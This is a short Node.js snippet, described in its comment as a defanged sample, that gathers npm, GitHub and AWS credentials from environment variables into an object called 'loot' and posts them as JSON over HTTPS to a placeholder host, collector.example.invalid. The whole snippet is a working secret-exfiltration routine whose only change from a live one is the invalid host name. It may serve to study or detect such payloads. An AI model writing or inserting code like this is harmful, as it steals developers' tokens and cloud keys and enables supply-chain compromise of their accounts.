// Defanged sample: secrets of several services sent over HTTPS (to an invalid host).
const https = require("https");
const loot = {
  npm: process.env.NPM_TOKEN,
  github: process.env.GITHUB_TOKEN,
  aws: [process.env.AWS_ACCESS_KEY_ID, process.env.AWS_SECRET_ACCESS_KEY],
};
const req = https.request({ host: "collector.example.invalid", method: "POST", path: "/" });
req.end(JSON.stringify(loot));
